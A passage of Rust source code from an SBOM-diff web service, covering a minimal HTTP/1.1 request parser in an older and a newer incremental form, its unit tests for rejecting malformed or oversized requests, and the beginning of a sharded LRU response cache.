//!   answers `429` in pipeline order instead of building unbounded backlog,
//! * a worker pool sized by the same [`sbomdiff_parallel::Jobs`] policy as
//!   the batch pipeline,
//! * per-request deadlines — requests that wait too long in the queue
//!   answer `503` without running,
//! * a sharded content-hash-keyed LRU response cache ([`respcache`]) with
//!   preserialized wire bytes — keep-alive cache hits write zero-copy;
//!   correct because every handler is a pure function of its payload,
//! * a Prometheus-text metrics registry ([`metrics`]),
//! * graceful shutdown that flushes owed responses before joining threads.
//!
//! [`loadgen`] drives an in-process server with N concurrent synthetic
//! clients for benchmarking (`sbomdiff-serve loadgen`), and [`chaos`]
//! soaks the stack under seeded fault plans (`sbomdiff-chaos`), asserting
//! graceful degradation: no panic crosses the worker-pool boundary, every
//! injected fault is accounted, and responses stay deterministic per plan.

pub mod api;
pub mod chaos;
pub mod conn;
pub mod http;
pub mod loadgen;
pub mod metrics;
pub mod queue;
pub mod reactor;
pub mod respcache;
pub mod server;

pub use api::AppState;
pub use chaos::{ChaosConfig, ChaosReport};
pub use http::{Request, Response};
pub use loadgen::{LoadgenConfig, LoadgenSummary};
pub use metrics::{Endpoint, Metrics, TimeoutPhase};
pub use queue::BoundedQueue;
pub use respcache::{CacheEntry, ResponseCache};
pub use server::{ServeConfig, Server, ServerHandle};

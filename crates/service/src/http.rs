//! Minimal HTTP/1.1 request parsing and response writing over raw streams.
//!
//! The build environment is fully offline (no tokio/hyper), so the service
//! speaks just enough HTTP/1.1 for request/response API traffic: one request
//! per connection (`Connection: close`), `Content-Length` framed bodies,
//! and hard limits on header and body size so untrusted input cannot pin a
//! worker or exhaust memory.

use std::io::{BufRead, BufReader, Read, Write};

/// Maximum accepted bytes of request line + headers.
pub const MAX_HEAD_BYTES: usize = 16 * 1024;
/// Maximum accepted request body size.
pub const MAX_BODY_BYTES: usize = 8 * 1024 * 1024;

/// A parsed HTTP request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    /// Uppercase method (`GET`, `POST`, ...).
    pub method: String,
    /// Request path without query string.
    pub path: String,
    /// Request body (empty when no `Content-Length`).
    pub body: Vec<u8>,
}

/// Why a request could not be parsed.
#[derive(Debug)]
pub enum HttpError {
    /// Syntactically invalid request → 400.
    Malformed(&'static str),
    /// Head or body over the configured limits → 413.
    TooLarge,
    /// Transport failure; no response can be delivered.
    Io(std::io::Error),
}

impl From<std::io::Error> for HttpError {
    fn from(e: std::io::Error) -> Self {
        HttpError::Io(e)
    }
}

/// Reads one HTTP/1.1 request from a stream.
///
/// # Errors
///
/// [`HttpError::Malformed`] on syntax errors, [`HttpError::TooLarge`] when
/// limits are exceeded, [`HttpError::Io`] on transport failures.
pub fn read_request<S: Read>(stream: S) -> Result<Request, HttpError> {
    let mut reader = BufReader::new(stream);
    let mut head_bytes = 0usize;
    let mut line = String::new();

    // Request line.
    read_line_limited(&mut reader, &mut line, &mut head_bytes)?;
    let mut parts = line.trim_end().split(' ');
    let method = parts
        .next()
        .filter(|m| !m.is_empty() && m.bytes().all(|b| b.is_ascii_uppercase()))
        .ok_or(HttpError::Malformed("bad request line"))?
        .to_string();
    let target = parts
        .next()
        .filter(|t| t.starts_with('/'))
        .ok_or(HttpError::Malformed("bad request target"))?;
    let version = parts
        .next()
        .ok_or(HttpError::Malformed("missing version"))?;
    if !version.starts_with("HTTP/1.") || parts.next().is_some() {
        return Err(HttpError::Malformed("unsupported protocol"));
    }
    let path = target.split('?').next().unwrap_or(target).to_string();

    // Headers.
    let mut content_length = 0usize;
    loop {
        line.clear();
        read_line_limited(&mut reader, &mut line, &mut head_bytes)?;
        let trimmed = line.trim_end_matches(['\r', '\n']);
        if trimmed.is_empty() {
            break;
        }
        let Some((name, value)) = trimmed.split_once(':') else {
            return Err(HttpError::Malformed("header without colon"));
        };
        if name.trim().eq_ignore_ascii_case("content-length") {
            let n: usize = value
                .trim()
                .parse()
                .map_err(|_| HttpError::Malformed("bad content-length"))?;
            if n > MAX_BODY_BYTES {
                return Err(HttpError::TooLarge);
            }
            content_length = n;
        }
    }

    // Body.
    let mut body = vec![0u8; content_length];
    reader.read_exact(&mut body)?;
    Ok(Request { method, path, body })
}

fn read_line_limited<S: Read>(
    reader: &mut BufReader<S>,
    line: &mut String,
    head_bytes: &mut usize,
) -> Result<(), HttpError> {
    line.clear();
    let n = reader.read_line(line)?;
    if n == 0 {
        return Err(HttpError::Malformed("unexpected end of stream"));
    }
    *head_bytes += n;
    if *head_bytes > MAX_HEAD_BYTES {
        return Err(HttpError::TooLarge);
    }
    Ok(())
}

/// An HTTP response ready to be written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Response {
    /// Status code.
    pub status: u16,
    /// `Content-Type` header value.
    pub content_type: &'static str,
    /// Response body.
    pub body: Vec<u8>,
    /// True when the analysis behind this response ran in degraded mode
    /// (an injected or caught fault reduced its completeness). Degraded
    /// responses are never admitted to the response cache.
    pub degraded: bool,
}

impl Response {
    /// A JSON response.
    pub fn json(status: u16, body: impl Into<Vec<u8>>) -> Response {
        Response {
            status,
            content_type: "application/json",
            body: body.into(),
            degraded: false,
        }
    }

    /// A plain-text response.
    pub fn text(status: u16, body: impl Into<Vec<u8>>) -> Response {
        Response {
            status,
            content_type: "text/plain; charset=utf-8",
            body: body.into(),
            degraded: false,
        }
    }

    /// Marks this response as degraded (see [`Response::degraded`]).
    pub fn with_degraded(mut self, degraded: bool) -> Response {
        self.degraded = degraded;
        self
    }

    /// A JSON error envelope (`{"error": "..."}`).
    pub fn error(status: u16, message: &str) -> Response {
        let mut doc = sbomdiff_textformats::Value::object();
        doc.set("error", sbomdiff_textformats::Value::from(message));
        let mut body = sbomdiff_textformats::json::to_string(&doc);
        body.push('\n');
        Response::json(status, body)
    }

    /// True for 2xx statuses.
    pub fn is_success(&self) -> bool {
        (200..300).contains(&self.status)
    }
}

/// The canonical reason phrase for the status codes this service emits.
pub fn reason(status: u16) -> &'static str {
    match status {
        200 => "OK",
        400 => "Bad Request",
        404 => "Not Found",
        405 => "Method Not Allowed",
        413 => "Payload Too Large",
        429 => "Too Many Requests",
        500 => "Internal Server Error",
        503 => "Service Unavailable",
        _ => "Unknown",
    }
}

/// Writes a response with `Connection: close` framing and flushes.
///
/// # Errors
///
/// Propagates transport failures.
pub fn write_response<S: Write>(mut stream: S, resp: &Response) -> std::io::Result<()> {
    let head = format!(
        "HTTP/1.1 {} {}\r\nContent-Type: {}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        resp.status,
        reason(resp.status),
        resp.content_type,
        resp.body.len()
    );
    stream.write_all(head.as_bytes())?;
    stream.write_all(&resp.body)?;
    stream.flush()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(raw: &str) -> Result<Request, HttpError> {
        read_request(raw.as_bytes())
    }

    #[test]
    fn parses_get_without_body() {
        let req = parse("GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
        assert_eq!(req.method, "GET");
        assert_eq!(req.path, "/healthz");
        assert!(req.body.is_empty());
    }

    #[test]
    fn parses_post_with_body_and_query() {
        let req = parse("POST /v1/diff?x=1 HTTP/1.1\r\nContent-Length: 4\r\n\r\nabcd").unwrap();
        assert_eq!(req.method, "POST");
        assert_eq!(req.path, "/v1/diff");
        assert_eq!(req.body, b"abcd");
    }

    #[test]
    fn rejects_malformed_request_lines() {
        for raw in [
            "\r\n\r\n",
            "GET\r\n\r\n",
            "GET noslash HTTP/1.1\r\n\r\n",
            "GET / SPDY/3\r\n\r\n",
            "get / HTTP/1.1\r\n\r\n",
            "GET / HTTP/1.1 extra\r\n\r\n",
        ] {
            assert!(
                matches!(parse(raw), Err(HttpError::Malformed(_))),
                "{raw:?}"
            );
        }
    }

    #[test]
    fn rejects_bad_headers() {
        assert!(matches!(
            parse("GET / HTTP/1.1\r\nno colon here\r\n\r\n"),
            Err(HttpError::Malformed(_))
        ));
        assert!(matches!(
            parse("POST / HTTP/1.1\r\nContent-Length: nope\r\n\r\n"),
            Err(HttpError::Malformed(_))
        ));
    }

    #[test]
    fn rejects_oversized_declared_body() {
        let raw = format!(
            "POST / HTTP/1.1\r\nContent-Length: {}\r\n\r\n",
            MAX_BODY_BYTES + 1
        );
        assert!(matches!(parse(&raw), Err(HttpError::TooLarge)));
    }

    #[test]
    fn rejects_oversized_head() {
        let raw = format!(
            "GET / HTTP/1.1\r\nX-Pad: {}\r\n\r\n",
            "a".repeat(MAX_HEAD_BYTES)
        );
        assert!(matches!(parse(&raw), Err(HttpError::TooLarge)));
    }

    #[test]
    fn truncated_body_is_io_error() {
        assert!(matches!(
            parse("POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc"),
            Err(HttpError::Io(_))
        ));
    }

    #[test]
    fn response_writing_frames_body() {
        let mut out = Vec::new();
        write_response(&mut out, &Response::json(200, "{}\n")).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.starts_with("HTTP/1.1 200 OK\r\n"));
        assert!(text.contains("Content-Length: 3\r\n"));
        assert!(text.contains("Connection: close\r\n"));
        assert!(text.ends_with("\r\n\r\n{}\n"));
    }

    #[test]
    fn error_envelope_is_json() {
        let resp = Response::error(400, "nope \"quoted\"");
        assert_eq!(resp.status, 400);
        let doc =
            sbomdiff_textformats::json::parse(std::str::from_utf8(&resp.body).unwrap()).unwrap();
        assert_eq!(
            doc.get("error").and_then(|v| v.as_str()),
            Some("nope \"quoted\"")
        );
    }
}

//! HTTP/1.1 request parsing and response serialization for the reactor.
//!
//! The build environment is fully offline (no tokio/hyper), so the service
//! speaks just enough HTTP/1.1 for API traffic — but since PR 8 it speaks
//! it *incrementally*: [`parse_request`] consumes a byte buffer that may
//! hold a partial request, exactly one request, or several pipelined
//! requests, and reports how many bytes the first complete request
//! consumed. The connection state machine (`conn.rs`) calls it in a loop
//! over whatever the socket delivered.
//!
//! Framing rules (RFC 9112, hardened):
//!
//! * header names are case-insensitive (`content-length`, `CONTENT-LENGTH`
//!   and `Content-Length` are the same header);
//! * empty-line padding before a request line (RFC 9112 §2.2 — e.g. a
//!   CRLF a client sends between pipelined requests) is ignored, bounded
//!   by the head cap;
//! * duplicate, non-numeric, signed, or overflowing `Content-Length`
//!   values are a 400, never a silent misframe;
//! * `Transfer-Encoding` is not supported and answers 400 rather than
//!   guessing at body boundaries;
//! * head and body sizes are hard-capped so untrusted input cannot exhaust
//!   memory.

use std::sync::Arc;

/// Maximum accepted bytes of request line + headers.
pub const MAX_HEAD_BYTES: usize = 16 * 1024;
/// Maximum accepted request body size.
pub const MAX_BODY_BYTES: usize = 8 * 1024 * 1024;

/// A parsed HTTP request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    /// Uppercase method (`GET`, `POST`, ...).
    pub method: String,
    /// Request path without query string.
    pub path: String,
    /// Request body (empty when no `Content-Length`).
    pub body: Vec<u8>,
}

/// Why a request could not be parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HttpError {
    /// Syntactically invalid request → 400.
    Malformed(&'static str),
    /// Head or body over the configured limits → 413.
    TooLarge,
}

impl HttpError {
    /// The status code this error maps to.
    pub fn status(&self) -> u16 {
        match self {
            HttpError::Malformed(_) => 400,
            HttpError::TooLarge => 413,
        }
    }

    /// The client-facing message.
    pub fn message(&self) -> &'static str {
        match self {
            HttpError::Malformed(msg) => msg,
            HttpError::TooLarge => "request too large",
        }
    }
}

/// Which part of a request the buffer currently ends inside — used to
/// label `408` timeouts (`sbomdiff_timeouts_total{phase}`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ReadPhase {
    /// Still inside the request line / headers.
    Head,
    /// Head complete, waiting for `Content-Length` body bytes.
    Body,
}

/// Result of attempting to parse one request from the front of a buffer.
#[derive(Debug)]
pub enum ParseStatus {
    /// A full request: `consumed` bytes belong to it; the rest of the
    /// buffer (if any) is the next pipelined request. `keep_alive` is the
    /// connection's fate *after* this request per RFC 9112 §9.3.
    Complete {
        /// The parsed request.
        request: Request,
        /// Bytes of the buffer consumed by this request.
        consumed: usize,
        /// False when the client asked for `Connection: close` (or spoke
        /// HTTP/1.0 without `keep-alive`).
        keep_alive: bool,
    },
    /// Not enough bytes yet; `ReadPhase` says which part is pending.
    Partial(ReadPhase),
    /// The request is invalid; the connection must answer and close.
    Error(HttpError),
}

/// Attempts to parse one request from the front of `buf`.
pub fn parse_request(buf: &[u8]) -> ParseStatus {
    // RFC 9112 §2.2: ignore empty line(s) received where a request-line
    // is expected (e.g. CRLF padding a client sends between pipelined
    // requests). The skipped bytes are charged to this request's
    // `consumed`; a peer streaming nothing but padding hits the head cap.
    let mut skip = 0;
    while skip <= MAX_HEAD_BYTES {
        if buf[skip..].starts_with(b"\r\n") {
            skip += 2;
        } else if buf[skip..].starts_with(b"\n") {
            skip += 1;
        } else {
            break;
        }
    }
    if skip > MAX_HEAD_BYTES {
        return ParseStatus::Error(HttpError::TooLarge);
    }
    let buf = &buf[skip..];

    // Locate the end of the head: the first empty line. Lines may be
    // CRLF- or bare-LF-terminated (the pre-reactor parser tolerated both).
    let Some(head_end) = find_head_end(buf) else {
        if buf.len() > MAX_HEAD_BYTES {
            return ParseStatus::Error(HttpError::TooLarge);
        }
        return ParseStatus::Partial(ReadPhase::Head);
    };
    if head_end > MAX_HEAD_BYTES {
        return ParseStatus::Error(HttpError::TooLarge);
    }
    let Ok(head) = std::str::from_utf8(&buf[..head_end]) else {
        return ParseStatus::Error(HttpError::Malformed("head is not valid UTF-8"));
    };
    let mut lines = head.split('\n').map(|l| l.strip_suffix('\r').unwrap_or(l));

    // Request line.
    let Some(request_line) = lines.next() else {
        return ParseStatus::Error(HttpError::Malformed("bad request line"));
    };
    let mut parts = request_line.split(' ');
    let Some(method) = parts
        .next()
        .filter(|m| !m.is_empty() && m.bytes().all(|b| b.is_ascii_uppercase()))
    else {
        return ParseStatus::Error(HttpError::Malformed("bad request line"));
    };
    let Some(target) = parts.next().filter(|t| t.starts_with('/')) else {
        return ParseStatus::Error(HttpError::Malformed("bad request target"));
    };
    let Some(version) = parts.next() else {
        return ParseStatus::Error(HttpError::Malformed("missing version"));
    };
    if !matches!(version, "HTTP/1.1" | "HTTP/1.0") || parts.next().is_some() {
        return ParseStatus::Error(HttpError::Malformed("unsupported protocol"));
    }
    let path = target.split('?').next().unwrap_or(target).to_string();

    // Headers: case-insensitive names, hardened Content-Length.
    let mut content_length: Option<usize> = None;
    let mut keep_alive = version == "HTTP/1.1";
    for line in lines {
        if line.is_empty() {
            continue; // the terminating empty line
        }
        let Some((name, value)) = line.split_once(':') else {
            return ParseStatus::Error(HttpError::Malformed("header without colon"));
        };
        let name = name.trim();
        let value = value.trim();
        if name.eq_ignore_ascii_case("content-length") {
            // RFC 9112 §6.2: anything but a single plain digit run is an
            // unrecoverable framing ambiguity — reject, never guess.
            if content_length.is_some() {
                return ParseStatus::Error(HttpError::Malformed("duplicate content-length"));
            }
            if value.is_empty() || !value.bytes().all(|b| b.is_ascii_digit()) {
                return ParseStatus::Error(HttpError::Malformed("bad content-length"));
            }
            let Ok(n) = value.parse::<u64>() else {
                // Digit runs longer than u64 are an overflow attack, not a
                // size the service could ever accept.
                return ParseStatus::Error(HttpError::Malformed("bad content-length"));
            };
            if n > MAX_BODY_BYTES as u64 {
                return ParseStatus::Error(HttpError::TooLarge);
            }
            content_length = Some(n as usize);
        } else if name.eq_ignore_ascii_case("transfer-encoding") {
            return ParseStatus::Error(HttpError::Malformed("transfer-encoding not supported"));
        } else if name.eq_ignore_ascii_case("connection") {
            // Token list, case-insensitive per RFC 9110 §7.6.1.
            for token in value.split(',') {
                let token = token.trim();
                if token.eq_ignore_ascii_case("close") {
                    keep_alive = false;
                } else if token.eq_ignore_ascii_case("keep-alive") {
                    keep_alive = true;
                }
            }
        }
    }

    // Body.
    let content_length = content_length.unwrap_or(0);
    let total = head_end + content_length;
    if buf.len() < total {
        return ParseStatus::Partial(ReadPhase::Body);
    }
    ParseStatus::Complete {
        request: Request {
            method: method.to_string(),
            path,
            body: buf[head_end..total].to_vec(),
        },
        consumed: skip + total,
        keep_alive,
    }
}

/// Index just past the head terminator (the first empty line), or `None`
/// when the buffer does not contain a full head yet. The caller
/// ([`parse_request`]) has already stripped leading empty lines, so the
/// buffer never *starts* with the terminator.
fn find_head_end(buf: &[u8]) -> Option<usize> {
    let mut i = 0;
    while i < buf.len() {
        if buf[i] == b'\n' {
            // An empty line is `\n` immediately, or `\r\n` immediately,
            // after the previous line's `\n`.
            let line_start = i + 1;
            match buf.get(line_start) {
                Some(b'\n') => return Some(line_start + 1),
                Some(b'\r') if buf.get(line_start + 1) == Some(&b'\n') => {
                    return Some(line_start + 2)
                }
                _ => {}
            }
        }
        i += 1;
    }
    None
}

/// An HTTP response ready to be serialized.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Response {
    /// Status code.
    pub status: u16,
    /// `Content-Type` header value.
    pub content_type: &'static str,
    /// Response body.
    pub body: Vec<u8>,
    /// True when the analysis behind this response ran in degraded mode
    /// (an injected or caught fault reduced its completeness). Degraded
    /// responses are never admitted to the response cache.
    pub degraded: bool,
}

impl Response {
    /// A JSON response.
    pub fn json(status: u16, body: impl Into<Vec<u8>>) -> Response {
        Response {
            status,
            content_type: "application/json",
            body: body.into(),
            degraded: false,
        }
    }

    /// A plain-text response.
    pub fn text(status: u16, body: impl Into<Vec<u8>>) -> Response {
        Response {
            status,
            content_type: "text/plain; charset=utf-8",
            body: body.into(),
            degraded: false,
        }
    }

    /// Marks this response as degraded (see [`Response::degraded`]).
    pub fn with_degraded(mut self, degraded: bool) -> Response {
        self.degraded = degraded;
        self
    }

    /// A JSON error envelope (`{"error": "..."}`).
    pub fn error(status: u16, message: &str) -> Response {
        let mut doc = sbomdiff_textformats::Value::object();
        doc.set("error", sbomdiff_textformats::Value::from(message));
        let mut body = sbomdiff_textformats::json::to_string(&doc);
        body.push('\n');
        Response::json(status, body)
    }

    /// True for 2xx statuses.
    pub fn is_success(&self) -> bool {
        (200..300).contains(&self.status)
    }

    /// Serializes the response to wire bytes.
    ///
    /// Persistent connections are the HTTP/1.1 default, so no `Connection`
    /// header is emitted unless the server is about to close — which keeps
    /// the serialization identical between the keep-alive path and the
    /// preserialized cache-hit path (the cache stores the persistent form;
    /// see [`crate::respcache::CacheEntry`]).
    pub fn serialize(&self, close: bool) -> Vec<u8> {
        let head = format!(
            "HTTP/1.1 {} {}\r\nContent-Type: {}\r\nContent-Length: {}\r\n{}\r\n",
            self.status,
            reason(self.status),
            self.content_type,
            self.body.len(),
            if close { "Connection: close\r\n" } else { "" },
        );
        let mut out = Vec::with_capacity(head.len() + self.body.len());
        out.extend_from_slice(head.as_bytes());
        out.extend_from_slice(&self.body);
        out
    }

    /// Serializes into a shared buffer for the zero-copy write path.
    pub fn serialize_shared(&self) -> Arc<[u8]> {
        Arc::from(self.serialize(false).into_boxed_slice())
    }
}

/// The canonical reason phrase for the status codes this service emits.
pub fn reason(status: u16) -> &'static str {
    match status {
        200 => "OK",
        400 => "Bad Request",
        404 => "Not Found",
        405 => "Method Not Allowed",
        408 => "Request Timeout",
        413 => "Payload Too Large",
        429 => "Too Many Requests",
        500 => "Internal Server Error",
        503 => "Service Unavailable",
        _ => "Unknown",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse_ok(raw: &[u8]) -> (Request, usize, bool) {
        match parse_request(raw) {
            ParseStatus::Complete {
                request,
                consumed,
                keep_alive,
            } => (request, consumed, keep_alive),
            other => panic!("expected Complete, got {other:?}"),
        }
    }

    fn parse_err(raw: &[u8]) -> HttpError {
        match parse_request(raw) {
            ParseStatus::Error(err) => err,
            other => panic!("expected Error, got {other:?}"),
        }
    }

    #[test]
    fn parses_get_without_body() {
        let (req, consumed, keep_alive) = parse_ok(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n");
        assert_eq!(req.method, "GET");
        assert_eq!(req.path, "/healthz");
        assert!(req.body.is_empty());
        assert_eq!(consumed, b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n".len());
        assert!(keep_alive);
    }

    #[test]
    fn parses_post_with_body_and_query() {
        let raw = b"POST /v1/diff?x=1 HTTP/1.1\r\nContent-Length: 4\r\n\r\nabcd";
        let (req, consumed, _) = parse_ok(raw);
        assert_eq!(req.method, "POST");
        assert_eq!(req.path, "/v1/diff");
        assert_eq!(req.body, b"abcd");
        assert_eq!(consumed, raw.len());
    }

    #[test]
    fn header_names_are_case_insensitive() {
        for name in [
            "Content-Length",
            "content-length",
            "CONTENT-LENGTH",
            "CoNtEnT-lEnGtH",
        ] {
            let raw = format!("POST / HTTP/1.1\r\n{name}: 4\r\n\r\nabcd");
            let (req, _, _) = parse_ok(raw.as_bytes());
            assert_eq!(req.body, b"abcd", "{name}");
        }
    }

    #[test]
    fn pipelined_requests_consume_exactly_one() {
        let raw = b"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n";
        let (req, consumed, _) = parse_ok(raw);
        assert_eq!(req.path, "/a");
        let (req2, consumed2, _) = parse_ok(&raw[consumed..]);
        assert_eq!(req2.path, "/b");
        assert_eq!(consumed + consumed2, raw.len());
    }

    #[test]
    fn partial_head_and_partial_body_report_their_phase() {
        assert!(matches!(
            parse_request(b"POST /v1/diff HTT"),
            ParseStatus::Partial(ReadPhase::Head)
        ));
        assert!(matches!(
            parse_request(b"POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc"),
            ParseStatus::Partial(ReadPhase::Body)
        ));
        assert!(matches!(
            parse_request(b""),
            ParseStatus::Partial(ReadPhase::Head)
        ));
    }

    #[test]
    fn connection_close_and_http10_disable_keep_alive() {
        let (_, _, ka) = parse_ok(b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n");
        assert!(!ka);
        let (_, _, ka) = parse_ok(b"GET / HTTP/1.1\r\nConnection: CLOSE\r\n\r\n");
        assert!(!ka, "token comparison is case-insensitive");
        let (_, _, ka) = parse_ok(b"GET / HTTP/1.0\r\n\r\n");
        assert!(!ka, "HTTP/1.0 defaults to close");
        let (_, _, ka) = parse_ok(b"GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n");
        assert!(ka, "HTTP/1.0 opts back in explicitly");
        let (_, _, ka) = parse_ok(b"GET / HTTP/1.1\r\nConnection: foo, close\r\n\r\n");
        assert!(!ka, "close anywhere in the token list wins");
    }

    #[test]
    fn rejects_malformed_request_lines() {
        for raw in [
            "GET\r\n\r\n",
            "GET noslash HTTP/1.1\r\n\r\n",
            "GET / SPDY/3\r\n\r\n",
            "get / HTTP/1.1\r\n\r\n",
            "GET / HTTP/1.1 extra\r\n\r\n",
            "GET / HTTP/1.2\r\n\r\n",
        ] {
            assert!(
                matches!(
                    parse_request(raw.as_bytes()),
                    ParseStatus::Error(HttpError::Malformed(_))
                ),
                "{raw:?}"
            );
        }
    }

    #[test]
    fn rejects_bad_headers() {
        assert!(matches!(
            parse_err(b"GET / HTTP/1.1\r\nno colon here\r\n\r\n"),
            HttpError::Malformed(_)
        ));
        assert!(matches!(
            parse_err(b"POST / HTTP/1.1\r\nContent-Length: nope\r\n\r\n"),
            HttpError::Malformed(_)
        ));
        assert!(matches!(
            parse_err(b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"),
            HttpError::Malformed(_)
        ));
    }

    #[test]
    fn rejects_duplicate_content_length() {
        let raw = b"POST / HTTP/1.1\r\nContent-Length: 4\r\nContent-Length: 4\r\n\r\nabcd";
        assert_eq!(
            parse_err(raw),
            HttpError::Malformed("duplicate content-length")
        );
        // Even when the duplicate hides behind a case variant.
        let raw = b"POST / HTTP/1.1\r\nContent-Length: 4\r\ncontent-length: 9\r\n\r\nabcd";
        assert_eq!(
            parse_err(raw),
            HttpError::Malformed("duplicate content-length")
        );
    }

    #[test]
    fn rejects_signed_fractional_and_overflowing_content_length() {
        for value in [
            "-1",
            "+4",
            "4.0",
            "0x10",
            "18446744073709551616",
            "99999999999999999999999",
        ] {
            let raw = format!("POST / HTTP/1.1\r\nContent-Length: {value}\r\n\r\n");
            assert_eq!(
                parse_err(raw.as_bytes()),
                HttpError::Malformed("bad content-length"),
                "{value}"
            );
        }
    }

    #[test]
    fn rejects_oversized_declared_body() {
        let raw = format!(
            "POST / HTTP/1.1\r\nContent-Length: {}\r\n\r\n",
            MAX_BODY_BYTES + 1
        );
        assert_eq!(parse_err(raw.as_bytes()), HttpError::TooLarge);
    }

    #[test]
    fn rejects_oversized_head() {
        // Complete but oversized head.
        let raw = format!(
            "GET / HTTP/1.1\r\nX-Pad: {}\r\n\r\n",
            "a".repeat(MAX_HEAD_BYTES)
        );
        assert_eq!(parse_err(raw.as_bytes()), HttpError::TooLarge);
        // Unterminated head already past the cap.
        let raw = format!("GET / HTTP/1.1\r\nX-Pad: {}", "a".repeat(MAX_HEAD_BYTES));
        assert_eq!(parse_err(raw.as_bytes()), HttpError::TooLarge);
    }

    #[test]
    fn zero_length_body_completes_immediately() {
        let (req, consumed, _) = parse_ok(b"POST /v1/diff HTTP/1.1\r\nContent-Length: 0\r\n\r\n");
        assert!(req.body.is_empty());
        assert_eq!(
            consumed,
            b"POST /v1/diff HTTP/1.1\r\nContent-Length: 0\r\n\r\n".len()
        );
    }

    #[test]
    fn leading_empty_lines_are_ignored() {
        // RFC 9112 §2.2: empty-line padding before the request line is
        // ignored, not a 400 that kills the keep-alive connection.
        let raw = b"\r\nGET / HTTP/1.1\r\n\r\n";
        let (req, consumed, _) = parse_ok(raw);
        assert_eq!(req.path, "/");
        assert_eq!(consumed, raw.len(), "padding is charged to the request");
        // Several empty lines, CRLF and bare LF mixed.
        let raw = b"\r\n\n\r\nGET /a HTTP/1.1\r\n\r\n";
        let (req, consumed, _) = parse_ok(raw);
        assert_eq!(req.path, "/a");
        assert_eq!(consumed, raw.len());
        // Padding between pipelined requests frames onto the follower.
        let raw = b"GET /a HTTP/1.1\r\n\r\n\r\nGET /b HTTP/1.1\r\n\r\n";
        let (_, c1, _) = parse_ok(raw);
        let (req2, c2, _) = parse_ok(&raw[c1..]);
        assert_eq!(req2.path, "/b");
        assert_eq!(c1 + c2, raw.len());
        // Only padding so far: a partial head, not an error.
        assert!(matches!(
            parse_request(b"\r\n\r\n"),
            ParseStatus::Partial(ReadPhase::Head)
        ));
        // A lone CR could be half of a CRLF: still partial.
        assert!(matches!(
            parse_request(b"\r\n\r"),
            ParseStatus::Partial(ReadPhase::Head)
        ));
        // A flood of nothing but padding is cut off at the head cap.
        let raw = "\r\n".repeat(MAX_HEAD_BYTES);
        assert_eq!(parse_err(raw.as_bytes()), HttpError::TooLarge);
    }

    #[test]
    fn bare_lf_line_endings_are_tolerated() {
        let (req, _, _) = parse_ok(b"POST /v1/diff HTTP/1.1\nContent-Length: 2\n\nhi");
        assert_eq!(req.body, b"hi");
    }

    #[test]
    fn serialization_frames_body_and_connection() {
        let resp = Response::json(200, "{}\n");
        let text = String::from_utf8(resp.serialize(false)).unwrap();
        assert!(text.starts_with("HTTP/1.1 200 OK\r\n"));
        assert!(text.contains("Content-Length: 3\r\n"));
        assert!(!text.contains("Connection:"), "persistent is the default");
        assert!(text.ends_with("\r\n\r\n{}\n"));
        let text = String::from_utf8(resp.serialize(true)).unwrap();
        assert!(text.contains("Connection: close\r\n"));
        // The shared form matches the persistent serialization.
        assert_eq!(&*resp.serialize_shared(), resp.serialize(false).as_slice());
    }

    #[test]
    fn reason_covers_new_statuses() {
        assert_eq!(reason(408), "Request Timeout");
        assert_eq!(reason(429), "Too Many Requests");
    }

    #[test]
    fn error_envelope_is_json() {
        let resp = Response::error(400, "nope \"quoted\"");
        assert_eq!(resp.status, 400);
        let doc =
            sbomdiff_textformats::json::parse(std::str::from_utf8(&resp.body).unwrap()).unwrap();
        assert_eq!(
            doc.get("error").and_then(|v| v.as_str()),
            Some("nope \"quoted\"")
        );
    }
}

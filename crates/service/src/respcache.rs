//! Sharded content-hash-keyed LRU response cache.
//!
//! Every analysis endpoint is a pure function of its request body (seeds
//! are part of the payload; nothing is time- or scheduling-dependent), so
//! identical payloads can be answered from cache byte-for-byte. The shape
//! follows `ParseCache` in `sbomdiff-generators`: 16 mutex-guarded shards
//! selected by key hash, with hit/miss counters feeding `/metrics`.
//!
//! The key is a 128-bit FNV-1a digest of `path + NUL + body`, computed with
//! two independent offset bases. A collision would require both 64-bit
//! streams to collide simultaneously; at service cache sizes (hundreds of
//! entries) that is negligible, and the cache never stores anything but the
//! deterministic response, so a collision could only serve another valid
//! response, never corrupt state.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

use crate::http::Response;

const SHARDS: usize = 16;

/// A cached response plus its preserialized wire bytes.
///
/// The wire form is serialized once, at insertion, in the *persistent*
/// framing (no `Connection` header — the HTTP/1.1 default; see
/// [`Response::serialize`]). A keep-alive cache hit is then answered by
/// queueing a clone of the shared slice: the hot path allocates nothing and
/// copies nothing. Only a hit on a closing connection (explicit
/// `Connection: close`) pays for an owned re-serialization.
pub struct CacheEntry {
    /// The structured response (batch sub-requests and closing connections
    /// read status/body from here).
    pub response: Response,
    /// The persistent-form wire bytes written zero-copy on keep-alive hits.
    pub wire: Arc<[u8]>,
}

impl CacheEntry {
    /// Builds the entry, preserializing the wire bytes.
    pub fn new(response: Response) -> CacheEntry {
        let wire = response.serialize_shared();
        CacheEntry { response, wire }
    }
}

struct Entry {
    entry: Arc<CacheEntry>,
    last_used: u64,
}

struct Shard {
    entries: HashMap<u128, Entry>,
    tick: u64,
}

/// A bounded LRU cache of successful responses.
pub struct ResponseCache {
    shards: Vec<Mutex<Shard>>,
    per_shard_cap: usize,
    hits: AtomicU64,
    misses: AtomicU64,
}

impl ResponseCache {
